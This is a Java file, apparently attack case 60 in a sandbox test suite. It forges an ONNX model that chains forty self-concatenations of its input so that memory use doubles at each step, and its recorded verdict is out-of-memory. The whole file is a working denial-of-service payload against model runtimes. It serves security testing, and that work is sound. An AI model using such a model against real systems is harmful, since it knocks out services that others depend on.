// attack: 60
// verdict: out-of-memory
import module java.base;
import org.showdown.sandbox.Forge;
import ai.onnx.proto.OnnxMl;

public class Forged {
    public static byte[] file() throws Exception {
        // Forty times: the input joined to itself.
        var model = Forge.model().toBuilder();
        model.getGraphBuilder().clearNode();
        String last = "x";
        for (int i = 0; i < 40; i++) {
            model.getGraphBuilder().addNode(Forge.node("Concat", last, "c" + i).toBuilder()
                    .addInput(last)
                    .addAttribute(OnnxMl.AttributeProto.newBuilder()
                            .setName("axis")
                            .setType(OnnxMl.AttributeProto.AttributeType.INT)
                            .setI(1)));
            last = "c" + i;
        }
        model.getGraphBuilder().addNode(Forge.mean(last, "y"));
        return model.build().toByteArray();
    }
}
